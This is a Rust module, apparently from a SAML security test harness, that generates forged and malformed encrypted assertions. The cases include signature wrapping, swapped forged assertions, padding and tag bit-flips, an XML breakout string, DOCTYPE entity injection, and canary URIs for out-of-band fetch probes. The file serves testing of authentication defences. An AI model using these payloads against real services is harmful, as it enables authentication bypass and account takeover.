//! Encrypted assertions that must not be believed, or that ask the wrong question of whoever decrypts them.

use anyhow::{Context, Result};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::{Facts, falsify, step, step_at};
use crate::saml::Signed;
use crate::saml::encryption::{Content, Encryption, Transport};
use crate::saml::plan::{Plan, Signer, Step};
use crate::xml::{Element, Node};

/// What is wrong with the encrypted assertion.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Concealed {
    /// Nobody signed it (CVE-2026-2092).
    UnsignedInside,
    /// Somebody else signed it.
    ForeignInside,
    /// A forged assertion in clear beside it.
    PlainBeside,
    /// A forged one, encrypted, beside the genuine one in clear.
    HiddenBeside,
    /// Twice.
    Twice,
    /// In a signed response, a forged one took its place.
    Swapped,
    /// Only so many bytes are left, under a signed response.
    Short(Content, usize),
    /// The last byte is turned: the tag, or the padding.
    Turned(Content),
    /// The last byte but sixteen is turned: in CBC, the padding and nothing else.
    TurnedPadding,
    /// The first byte after the IV is turned.
    TurnedFirst(Content),
    /// The wrapped key is noise.
    NoiseKey,
    /// RSAES-PKCS1-v1_5 wraps the key.
    Rsa15,
    /// AES-CBC in a response that is not signed.
    CbcInTheOpen,
    /// For somebody else.
    OtherRecipient,
    /// No XML inside.
    NotXml,
    /// Not UTF-8 inside.
    NotText,
    /// Not an assertion inside.
    NotAnAssertion,
    /// An encrypted assertion inside.
    Nested,
    /// It breaks out of its place: what is inside closes the response.
    BreaksOut,
    /// A document type inside.
    DocumentTypeInside,
    /// The bytes are said to be on the network: `CipherReference`.
    CipherReference,
    /// The key is said to be on the network: `RetrievalMethod`.
    RetrievalMethod,
    /// This many keys.
    ManyKeys(usize),
    /// Two `EncryptedData`.
    TwoData,
    /// Triple DES.
    TripleDes,
    /// No `CipherData`.
    Empty,
}

impl Concealed {
    /// What has to be signed for it to bite.
    pub(super) fn signed(self) -> Signed {
        match self {
            Self::Short(..)
            | Self::Turned(_)
            | Self::TurnedFirst(_)
            | Self::TurnedPadding
            | Self::Rsa15
            | Self::Swapped => Signed::Response,
            Self::UnsignedInside
            | Self::ForeignInside
            | Self::PlainBeside
            | Self::HiddenBeside
            | Self::Twice
            | Self::NoiseKey
            | Self::CbcInTheOpen
            | Self::OtherRecipient
            | Self::NotXml
            | Self::NotText
            | Self::NotAnAssertion
            | Self::Nested
            | Self::BreaksOut
            | Self::DocumentTypeInside
            | Self::CipherReference
            | Self::RetrievalMethod
            | Self::ManyKeys(_)
            | Self::TwoData
            | Self::TripleDes
            | Self::Empty => Signed::Assertion,
        }
    }

    /// What it is encrypted with.
    fn content(self) -> Content {
        match self {
            Self::Short(content, _) | Self::Turned(content) | Self::TurnedFirst(content) => content,
            Self::TurnedPadding | Self::CbcInTheOpen => Content::Aes256Cbc,
            Self::Rsa15
            | Self::Swapped
            | Self::UnsignedInside
            | Self::ForeignInside
            | Self::PlainBeside
            | Self::HiddenBeside
            | Self::Twice
            | Self::NoiseKey
            | Self::OtherRecipient
            | Self::NotXml
            | Self::NotText
            | Self::NotAnAssertion
            | Self::Nested
            | Self::BreaksOut
            | Self::DocumentTypeInside
            | Self::CipherReference
            | Self::RetrievalMethod
            | Self::ManyKeys(_)
            | Self::TwoData
            | Self::TripleDes
            | Self::Empty => Content::Aes256Gcm,
        }
    }

    pub(super) fn apply(self, plan: &mut Plan, facts: &Facts<'_>) -> Result<()> {
        let certificate = facts
            .recipient
            .context("nothing is encrypted for it")?
            .clone();
        let encryption = Encryption::with(self.content());
        plan.encryption = Some((encryption, certificate.clone()));
        let canary = facts.canary.to_owned();
        match self {
            Self::UnsignedInside => plan.signed = None,
            Self::ForeignInside => plan.signer = Signer::Stranger(Box::new(facts.stranger.clone())),
            Self::PlainBeside => {
                let forged = forged(plan)?;
                plan.finished
                    .push(step(move |response| response.append(forged.clone())));
            }
            Self::HiddenBeside => {
                let forged = encryption.encrypt(&forged(plan)?.write(), &certificate)?;
                plan.encryption = None;
                plan.finished
                    .push(step(move |response| response.append(forged.clone())));
            }
            Self::Twice => plan.finished.push(step(|response| {
                let again = response.find("EncryptedAssertion").cloned();
                response.children.extend(again.map(Node::Element));
            })),
            Self::Swapped => {
                let forged = encryption.encrypt(&forged(plan)?.write(), &certificate)?;
                plan.finished
                    .push(step_at(&["EncryptedAssertion"], move |encrypted| {
                        *encrypted = forged.clone();
                    }));
            }
            Self::Short(_, length) => plan
                .concealed
                .push(bytes(move |bytes| bytes.truncate(length))),
            Self::Turned(_) => plan.concealed.push(bytes(|bytes| turn(bytes, 1))),
            Self::TurnedPadding => plan.concealed.push(bytes(|bytes| turn(bytes, 17))),
            Self::TurnedFirst(_) => plan.concealed.push(bytes(|bytes| {
                let length = bytes.len();
                turn(bytes, length.saturating_sub(16));
            })),
            Self::NoiseKey => plan.concealed.push(step_at(KEY, |value| {
                value.set_text(STANDARD.encode([7; 256]));
            })),
            Self::Rsa15 => {
                let transport = Transport::Rsa15;
                plan.encryption = Some((
                    Encryption {
                        transport,
                        ..encryption
                    },
                    certificate,
                ));
            }
            // How it is signed and encrypted is all that is wrong.
            Self::CbcInTheOpen => {}
            Self::OtherRecipient => {
                plan.encryption = Some((encryption, facts.stranger.certificate().clone()));
            }
            Self::NotXml => inside(plan, |_| "no assertion at all".to_owned()),
            Self::NotText => plan.concealed.push(step(move |encrypted| {
                // Latin-1 inside, which is no UTF-8 once it is decrypted.
                let noise = encryption.encrypt_bytes(&[0xff; 64], &certificate);
                *encrypted = noise.unwrap_or_default();
            })),
            Self::NotAnAssertion => inside(plan, |_| {
                "<x:Any xmlns:x=\"urn:example:any\">not one of ours</x:Any>".to_owned()
            }),
            Self::Nested => {
                inside(plan, move |plain| {
                    let nested = encryption.encrypt(&plain, &certificate);
                    nested.unwrap_or_default().write()
                });
            }
            Self::BreaksOut => inside(plan, |plain| format!("{plain}</samlp:Response><evil>")),
            Self::DocumentTypeInside => inside(plan, |plain| {
                format!("<!DOCTYPE a [<!ENTITY e \"mallory\">]>{plain}")
            }),
            Self::CipherReference => {
                plan.concealed
                    .push(step_at(&["EncryptedData", "CipherData"], move |data| {
                        let reference = Element::new("xenc:CipherReference");
                        *data = Element::new("xenc:CipherData")
                            .child(reference.with("URI", format!("{canary}/cipher")));
                    }))
            }
            Self::RetrievalMethod => {
                plan.concealed
                    .push(step_at(&["EncryptedData", "KeyInfo"], move |info| {
                        info.children.clear();
                        let retrieval = Element::new("ds:RetrievalMethod");
                        info.append(retrieval.with("URI", format!("{canary}/key")));
                    }));
            }
            Self::ManyKeys(count) => {
                plan.concealed
                    .push(step_at(&["EncryptedData", "KeyInfo"], move |info| {
                        let key = info.find("EncryptedKey").cloned();
                        let many = std::iter::repeat_n(key, count).flatten();
                        info.children.extend(many.map(Node::Element));
                    }));
            }
            Self::TwoData => plan.concealed.push(step(|encrypted| {
                let again = encrypted.find("EncryptedData").cloned();
                encrypted.children.extend(again.map(Node::Element));
            })),
            Self::TripleDes => {
                plan.concealed
                    .push(step_at(&["EncryptedData", "EncryptionMethod"], |method| {
                        method.set(
                            "Algorithm",
                            "http://www.w3.org/2001/04/xmlenc#tripledes-cbc",
                        )
                    }))
            }
            Self::Empty => plan.concealed.push(step_at(&["EncryptedData"], |data| {
                data.take("CipherData");
            })),
        }
        Ok(())
    }
}

const KEY: &[&str] = &[
    "EncryptedData",
    "KeyInfo",
    "EncryptedKey",
    "CipherData",
    "CipherValue",
];
const DATA: &[&str] = &["EncryptedData", "CipherData", "CipherValue"];

/// An assertion of somebody else, unsigned.
fn forged(plan: &Plan) -> Result<Element> {
    let assertion = plan.draft.assertion.as_ref().context("no assertion")?;
    let mut forged = assertion.element();
    forged.set("ID", "_forged-assertion");
    falsify(&mut forged);
    Ok(forged)
}

fn inside(plan: &mut Plan, change: impl Fn(String) -> String + 'static) {
    plan.plain.push(Box::new(change));
}

/// Changes IV, ciphertext and tag.
fn bytes(change: impl Fn(&mut Vec<u8>) + 'static) -> Step {
    step_at(DATA, move |value| {
        let mut bytes = STANDARD.decode(value.own_text()).unwrap_or_default();
        change(&mut bytes);
        value.set_text(STANDARD.encode(bytes));
    })
}

/// Turns one bit of the byte so far from the end.
fn turn(bytes: &mut [u8], from_the_end: usize) {
    let place = bytes.len().saturating_sub(from_the_end);
    if let Some(byte) = bytes.get_mut(place) {
        *byte ^= 1;
    }
}
